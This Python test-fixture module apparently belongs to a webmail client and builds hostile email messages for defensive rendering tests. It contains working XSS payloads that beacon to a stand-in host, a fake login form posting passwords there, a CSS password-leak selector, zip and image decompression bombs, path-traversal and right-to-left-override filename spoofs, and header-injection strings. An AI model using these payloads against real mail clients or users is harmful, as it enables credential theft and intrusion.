# SPDX-License-Identifier: ISC
"""Mail that means harm: whoever reads it must see it, and nothing must come of it.

HOSTILE is a table of generators: name -> bytes of a message whose subject begins with the name. What
a script in them would do is the same everywhere: set `window.harmed`, change the title, ask EVIL
for a picture.
"""
import base64
import gzip
import io
import quopri
import struct
import zipfile
import zlib

EVIL = "evilhostc0ffee.sink.test"  # whoever is made to ask for it is seen asking the name server
HARM = (f"window.harmed=1;top.harmed=1;parent.harmed=1;document.title='harmed';"
        f"new Image().src='https://{EVIL}/harm';fetch('/api/v1/sessions?harm')")
SCRIPT = f"<script>{HARM}</script>"
TAGS = f"\"><img src=x onerror=\"{HARM}\"><svg onload=\"{HARM}\">{SCRIPT}"
TOKEN = TAGS.replace('"', "'").replace("\r", "").replace("\n", "")
RLO, LRM, ZWSP = "\u202e", "\u200e", "\u200b"


def head(name, to="ada@example.test", subject=None, sender="mallory@client.test", more=""):
    return (f"From: Mallory <{sender}>\r\nTo: <{to}>\r\nSubject: {subject or name}\r\n"
            f"Date: Mon, 02 Nov 2026 10:00:00 +0000\r\nMessage-ID: <{name}@client.test>\r\n"
            f"MIME-Version: 1.0\r\n{more}").encode()


def single(name, kind, body, encoding="8bit", **more):
    body = body if isinstance(body, bytes) else body.encode()
    if encoding == "base64":
        body = base64.encodebytes(body).replace(b"\n", b"\r\n")
    if encoding == "quoted-printable":
        body = quopri.encodestring(body).replace(b"\n", b"\r\n")
    return head(name, **more) + (f"Content-Type: {kind}\r\nContent-Transfer-Encoding: {encoding}"
                                 "\r\n\r\n").encode() + body + b"\r\n"


def multi(name, parts, kind="mixed", boundary="b", **more):
    """Parts are (headers, body)."""
    body = b""
    for headers, content in parts:
        content = content if isinstance(content, bytes) else content.encode()
        body += f"--{boundary}\r\n{headers}\r\n\r\n".encode() + content + b"\r\n"
    return head(name, **more) + (f"Content-Type: multipart/{kind}; boundary=\"{boundary}\"\r\n\r\n"
                                 ).encode() + body + f"--{boundary}--\r\n".encode()


def attached(name, kind, content):
    return (f"Content-Type: {kind}\r\nContent-Disposition: attachment; filename=\"{name}\"\r\n"
            "Content-Transfer-Encoding: base64", base64.encodebytes(content))


def script_in_every_header(name):
    fields = "".join(f"{field}: {TOKEN}\r\n" for field in (
        "X-Mailer", "List-Unsubscribe", "List-Id", "Reply-To", "Sender", "Cc", "Organization",
        "Comments", "Keywords", "In-Reply-To", "References", "Content-Description", "X-Siegel-Draft"))
    return (f"From: \"{TOKEN.replace(chr(34), '')}\" <mallory@client.test>\r\n"
            f"To: <ada@example.test>, \"<script>{HARM}</script>\" <you@example.test>\r\n"
            f"Subject: {name} {SCRIPT} {TAGS}\r\nDate: {SCRIPT}\r\nMessage-ID: <{name}>\r\n{fields}"
            f"Content-Type: text/plain; charset=\"{SCRIPT.replace(chr(34), '')}\"\r\n\r\n"
            f"{SCRIPT}{TAGS}\r\nhttps://{EVIL}/%22onmouseover=%22{name} javascript:{HARM}\r\n").encode()


def script_in_every_part(name):
    html = f"<body onload=\"{HARM}\">{SCRIPT}{TAGS}<p>hello</p></body>"
    return multi(name, [
        ("Content-Type: text/html; charset=utf-8", html),
        ("Content-Type: text/plain", SCRIPT + TAGS),
        attached(f"{SCRIPT}.html".replace('"', ""), "text/html", html.encode()),
        attached("picture.svg", "image/svg+xml", svg()),
        attached("script.js", "text/javascript", HARM.encode()),
        attached("page.xhtml", "application/xhtml+xml", html.encode()),
        ("Content-Type: message/rfc822", single("inner", "text/html", html)),
        ("Content-Type: text/x-\"<script>; name=\"<img src=x onerror=alert(1)>\"", TAGS),
    ])


def svg():
    return (f"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{HARM}\"><script>{HARM}</script>"
            f"<image href=\"https://{EVIL}/svg\"/><foreignObject>{SCRIPT}</foreignObject></svg>"
            ).encode()


def svg_with_script(name):
    return multi(name, [
        ("Content-Type: text/html", "<p>see</p><img src=\"cid:pic\"><object data=\"cid:pic\"></object>"
         "<embed src=\"cid:pic\"><iframe src=\"cid:pic\"></iframe>"
         "<img src='data:image/svg+xml;base64," + base64.b64encode(svg()).decode() + "'>"),
        ("Content-Type: image/svg+xml\r\nContent-ID: <pic>\r\nContent-Disposition: inline",
         svg().decode()),
    ], kind="related")


def forms_and_refresh(name):
    return single(name, "text/html; charset=utf-8", f"""<html><head>
<meta http-equiv="refresh" content="0; url=https://{EVIL}/refresh">
<base href="https://{EVIL}/" target="_top">
<link rel="stylesheet" href="https://{EVIL}/style"><link rel="prefetch" href="https://{EVIL}/prefetch">
<link rel="dns-prefetch" href="//{EVIL}"><link rel="preconnect" href="https://{EVIL}">
<style>@import url(https://{EVIL}/import);
@font-face {{ font-family: x; src: url(https://{EVIL}/font) }}
body {{ font-family: x; background: url(https://{EVIL}/background) }}
input[name=password][value^=a] {{ background: url(https://{EVIL}/a) }}
p {{ position: fixed; inset: 0; z-index: 99999; cursor: url(https://{EVIL}/cursor), auto }}</style></head>
<body background="https://{EVIL}/body"><p>Your session is over. Log in again:</p>
<form action="https://{EVIL}/form" method="post" target="_top"><input name="user"><input name="password"
 type="password" autofocus><button autofocus>Log in</button></form>
<form action="/api/v1/session" method="post"><button id="same">x</button></form>
<img src="https://{EVIL}/pixel" srcset="https://{EVIL}/set 2x"><img src="//{EVIL}/bare">
<video poster="https://{EVIL}/poster" src="https://{EVIL}/video" autoplay></video>
<audio src="https://{EVIL}/audio" autoplay></audio><iframe src="https://{EVIL}/frame"></iframe>
<iframe src="/"></iframe><iframe srcdoc="{SCRIPT.replace('"', '&quot;')}"></iframe>
<object data="https://{EVIL}/object"></object><embed src="https://{EVIL}/embed">
<a href="javascript:{HARM}" id="js">a</a><a href="https://{EVIL}/ping" ping="https://{EVIL}/p">b</a>
<a href="data:text/html,{SCRIPT.replace('"', '%22')}">c</a>
<svg><use href="https://{EVIL}/use#x"/></svg><math href="javascript:{HARM}">m</math>
<table background="https://{EVIL}/table"></table><input type="image" src="https://{EVIL}/input">
</body></html>""")


def nested(name, depth=1000):
    """Multiparts in multiparts, each with a boundary of its own."""
    lines = ["Content-Type: multipart/mixed; boundary=\"b0\"", ""]
    for level in range(1, depth):
        lines += [f"--b{level - 1}", f"Content-Type: multipart/mixed; boundary=\"b{level}\"", ""]
    lines += [f"--b{depth - 1}", "Content-Type: text/html", "", f"the innermost {SCRIPT}"]
    lines += [f"--b{level}--" for level in reversed(range(depth))]
    return head(name) + "\r\n".join(lines).encode() + b"\r\n"


def nested_messages(name, depth=1000):
    """Messages attached to messages."""
    return head(name) + b"Content-Type: message/rfc822\r\n\r\n" * depth + b"Subject: innermost\r\n\r\nx\r\n"


def many_headers(name, count=100_000):
    more = "".join(f"X-Header-{n}: {n} <script>{n}</script>\r\n" for n in range(count))
    return head(name, more=more) + b"\r\nsmall body\r\n"


def many_recipients(name, count=20_000):
    cc = ",\r\n ".join(f"\"Person {n}\" <p{n}@client.test>" for n in range(count))
    return head(name, more=f"Cc: {cc}\r\n") + b"\r\nto many\r\n"


def many_parts(name, count=20_000):
    return multi(name, [(f"Content-Type: text/plain; name=\"{n}.txt\"", str(n))
                        for n in range(count)])


def many_references(name, count=50_000):
    more = "References:" + "".join(f"\r\n <r{n}@client.test>" for n in range(count)) + "\r\n"
    return head(name, more=more) + b"\r\nconversations\r\n"


def long_lines(name):
    return head(name, subject=name + " " + "x" * 200_000) + b"\r\n" + b"y" * 2_000_000 + b"\r\n"


def broken_charsets(name):
    return multi(name, [
        ("Content-Type: text/plain; charset=utf-8", b"broken \xff\xfe\xc0\x80\xed\xa0\x80 utf-8"),
        ("Content-Type: text/plain; charset=no-such-charset", b"\x80\x81\x82 unknown"),
        ("Content-Type: text/html; charset=utf-7", "+ADw-script+AD4-" + HARM + "+ADw-/script+AD4-"),
        ("Content-Type: text/html; charset=iso-2022-jp", b"\x1b$B<\x1b(B" + SCRIPT.encode()),
        ("Content-Type: text/plain; charset=utf-16", "sixteen".encode("utf-16")[:-1]),
        ("Content-Type: text/plain; charset=\"\"\r\nContent-Transfer-Encoding: base64", "====%%%"),
        ("Content-Type: text/plain\r\nContent-Transfer-Encoding: quoted-printable", "=ZZ=\r\n=0"),
    ], more=f"X-Broken: =?utf-8?B?{'A' * 70}?= =?bogus?Q?=FF?=\r\n",
        subject=f"{name} =?utf-8?Q?=FF=FE?= =?gb2312?B?////?=")


def broken_structure(name):
    return head(name) + (b"Content-Type: multipart/mixed; boundary=\"\"\r\nContent-Type: text/html\r\n"
                         b"Content-Type: multipart/alternative; boundary=\"never comes\"\r\n\r\n"
                         b"--\r\n\r\nno boundary \x00 null \x07 bell \x1b[31m escape\r\n--never\r\n")


def zip_attachments(name):
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../../etc/passwd", b"\0" * 20_000_000)
    return multi(name, [("Content-Type: text/plain", "zips"),
                        attached("bomb.zip", "application/zip", bomb.getvalue()),
                        attached("bomb.gz", "application/gzip", gzip.compress(b"\0" * 10_000_000)),
                        *[attached(f"many-{n}.zip", "application/zip", b"PK\x05\x06" + b"\0" * 18)
                          for n in range(40)]])


def png(width, height):
    """A picture of zeros that says how large it is: small as a file, large when it is shown."""
    def chunk(kind, data):
        return (struct.pack("!I", len(data)) + kind + data
                + struct.pack("!I", zlib.crc32(kind + data)))
    row = b"\0" + b"\0" * ((width + 7) // 8)
    squeezer = zlib.compressobj(9)
    data = b"".join(squeezer.compress(row) for _ in range(height)) + squeezer.flush()
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack("!IIBBBBB", width, height, 1, 0, 0,
                                                             0, 0))
            + chunk(b"IDAT", data) + chunk(b"IEND", b""))


def huge_inline_images(name):
    picture = base64.encodebytes(png(20_000, 20_000)).decode()
    noise = base64.encodebytes(png(64, 64) + b"\0" * 6_000_000).decode()
    return multi(name, [
        ("Content-Type: text/html", "<p>pictures</p>" + "<img src=\"cid:huge\" width=40>"
         + "<img src=\"cid:fat\" width=40>" * 20),
        ("Content-Type: image/png\r\nContent-ID: <huge>\r\nContent-Transfer-Encoding: base64", picture),
        ("Content-Type: image/png\r\nContent-ID: <fat>\r\nContent-Transfer-Encoding: base64", noise),
    ], kind="related")


def bidi_names(name):
    return multi(name, [
        ("Content-Type: text/plain; charset=utf-8", f"bidi {RLO}txt.exe{LRM}{ZWSP}"),
        (f"Content-Type: application/octet-stream\r\nContent-Disposition: attachment;"
         f" filename=\"invoice{RLO}fdp.exe\"", "x"),
        ("Content-Type: text/plain\r\nContent-Disposition: attachment; filename=\"../../up.txt\"", "x"),
        ("Content-Type: text/plain\r\nContent-Disposition: attachment; filename*=utf-8''a%0d%0aSet-Cookie:%20b",
         "x"),
    ], sender="mallory@client.test", subject=f"{name} {RLO}gnp.exe")


def deep_html(name):
    return single(name, "text/html", "<div>" * 50_000 + "deep" + "<table><tr><td>" * 5_000)


def plain_bait(name):
    """What makes text into elements must make these into nothing but text and safe links."""
    return single(name, "text/plain; charset=utf-8", "\r\n".join([
        SCRIPT, TAGS, "javascript:alert(1)", f"https://{EVIL}/\"onclick=\"x", "<https://[::1]:1/>",
        f"http://user:pass@{EVIL}:99999/", "> " * 3000 + "quoted deep", "https://" + "a" * 5000,
        "((((" * 5000, "a@" * 5000, "&lt;b&gt;", f"mailto:{EVIL}?bcc=x"]))


HOSTILE = {make.__name__.replace("_", "-"): make for make in (
    script_in_every_header, script_in_every_part, svg_with_script, forms_and_refresh, nested,
    nested_messages, many_headers, many_recipients, many_parts, many_references, long_lines,
    broken_charsets, broken_structure, zip_attachments, huge_inline_images, bidi_names, deep_html,
    plain_bait)}


def make(name):
    return HOSTILE[name](name)
